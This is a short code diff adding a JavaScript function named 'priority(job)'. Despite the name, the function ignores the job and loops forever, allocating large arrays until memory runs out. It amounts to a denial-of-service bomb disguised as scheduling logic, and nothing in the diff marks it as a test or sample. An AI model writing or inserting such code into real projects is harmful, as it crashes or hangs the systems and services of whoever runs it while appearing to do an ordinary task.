@@ -1,0 +1,4 @@
+export function priority(job) {
+  const kept = []
+  for (;;) kept.push(new Array(1e4).fill({}))
+}
